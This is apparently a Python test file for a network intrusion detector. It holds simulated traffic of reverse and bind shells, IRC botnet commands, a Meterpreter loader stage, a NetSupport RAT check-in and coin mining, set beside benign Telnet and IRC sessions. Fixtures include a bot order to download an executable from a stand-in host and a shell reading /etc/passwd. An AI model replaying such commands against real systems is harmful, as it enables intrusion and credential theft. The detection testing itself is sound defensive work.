"""Scenes of shells and remote access tools, and of honest remote logins."""

from cases import fires, silent
from payloads import request, response
from traffic import Wire

ME, MASTER = "10.0.0.9", "203.0.113.66"


@fires("high", title="Windows command prompt")
def windows_shell(wire: Wire) -> None:
    """A reverse shell: the victim connects out and sends a prompt, commands come back."""
    prompt = b"Microsoft Windows [Version 10.0.19045.3570]\r\n(c) Microsoft Corporation.\r\n\r\nC:\\Users\\bob>"
    wire.talk(ME, MASTER, 4444, [("s", b"\n"), ("c", prompt), ("s", b"whoami\n"), ("c", b"whoami\r\nlab\\bob\r\n\r\nC:\\Users\\bob>")])  # fmt: skip


@fires("high", title="Unix shell")
def unix_shell(wire: Wire) -> None:
    """A shell bound to a port: commands in, the answer of `id` out."""
    wire.talk(MASTER, ME, 31_337, [("c", b"id\n"), ("s", b"uid=0(root) gid=0(root) groups=0(root)\n"), ("c", b"uname -a\n"), ("s", b"Linux box 6.1.0\n")])  # fmt: skip


@fires("high", title="IRC bot")
def irc_bot(wire: Wire) -> None:
    """A bot joins a channel on an odd port with a computed nickname that tells country and system."""
    said = [("c", b"NICK {DEU|XP-SP3}4711029\r\nUSER x x x :x\r\n"), ("s", b":irc 001 x :hi\r\n"), ("c", b"JOIN #cmd key\r\n"), ("s", b":x TOPIC #cmd :.download http://203.0.113.66/a.exe\r\n")]  # fmt: skip
    wire.talk(ME, MASTER, 7007, said, close="")


@fires("high", title="memory")
def reflective_loader(wire: Wire) -> None:
    """A stage with Meterpreter's loader over a bare connection."""
    wire.talk(ME, MASTER, 4444, [("s", b"\0\0\x02\0MZ" + bytes(300) + b"ReflectiveLoader" + wire.noise(4000))])


@fires("high", title="NetSupport")
def netsupport(wire: Wire) -> None:
    """NetSupport Manager's check-in over HTTP (a remote tool that campaigns install)."""
    ask = request("/fakeurl.htm", host=MASTER, method="POST", agent="NetSupport Manager/1.3", body=b"CMD=POLL\nINFO=1\nACK=1\n")  # fmt: skip
    wire.talk(ME, MASTER, 443, [("c", ask), ("s", response(200, b"CMD=ENCD\nES=1\n"))])


@silent(also=("clear-text-credentials",))
def telnet(wire: Wire) -> None:
    """An honest Telnet session shows a prompt and a banner."""
    said = [("s", b"\xff\xfd\x18\xff\xfd\x20"), ("c", b"\xff\xfb\x18"), ("s", b"login: "), ("c", b"bob\r\n"), ("s", b"Password: "), ("c", b"x\r\n"), ("s", b"Last login: Mon\r\nbob@box:~$ ")]  # fmt: skip
    wire.talk(ME, "10.0.0.5", 23, said)


@silent()
def lesson(wire: Wire) -> None:
    """A web page of a course shows a Windows prompt and the output of id."""
    page = b"<pre>Microsoft Windows [Version 10.0.19045.3570]\nuid=0(root) gid=0(root)</pre>"
    wire.talk(ME, "198.51.100.9", 80, [("c", request("/course")), ("s", response(200, page))])


@silent()
def chat_room(wire: Wire) -> None:
    """A person joins an IRC network with an ordinary nickname."""
    said = [("c", b"NICK alice\r\nUSER alice 0 * :Alice\r\n"), ("s", b":irc.example.org 001 alice :Welcome\r\n"), ("c", b"JOIN #python\r\n"), ("s", b":irc.example.org 332 alice #python :Be nice\r\n")]  # fmt: skip
    wire.talk(ME, "198.51.100.9", 6667, said, close="")


@fires("high", title="orders to bots")
def orders(wire: Wire) -> None:
    """A channel's topic orders bots to scan."""
    said = [("c", b"NICK bot4711\r\nUSER b b b b\r\n"), ("s", b":irc 001 b :hi\r\n"), ("c", b"JOIN #x\r\n"), ("s", b":irc 332 b #x :.advscan dcom135 200 5 0 -r\r\n")]  # fmt: skip
    wire.talk(ME, MASTER, 6667, said, close="")


@fires("medium", title="coin mining")
def miner(wire: Wire) -> None:
    """A miner subscribes to a pool (Stratum)."""
    said = [("c", b'{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.1"]}\n'), ("s", b'{"id":1,"result":[],"error":null}\n')]  # fmt: skip
    wire.talk(ME, MASTER, 3333, said, close="")


@fires("high", title="Unix shell")
def prompt_of_a_terminal(wire: Wire) -> None:
    """A reverse shell with a terminal: the victim's prompt comes first."""
    prompt = b"www-data@web01:/var/www/html$ "
    wire.talk(
        ME,
        MASTER,
        9001,
        [("c", prompt), ("s", b"id\n"), ("c", b"id\r\nuid=33(www-data) gid=33(www-data)\r\n" + prompt)],
    )


@fires("high", title="Unix shell")
def shell_without_prompt(wire: Wire) -> None:
    """netcat with a shell behind it: commands come in, answers go out, nothing else."""
    said = [("s", b"ls -la\n"), ("c", b"total 12\ndrwxr-xr-x 2 root root 4096 .\n"), ("s", b"cat /etc/passwd\n")]
    wire.talk(ME, MASTER, 9001, [*said, ("c", b"root:x:0:0:root:/root:/bin/bash\n")])
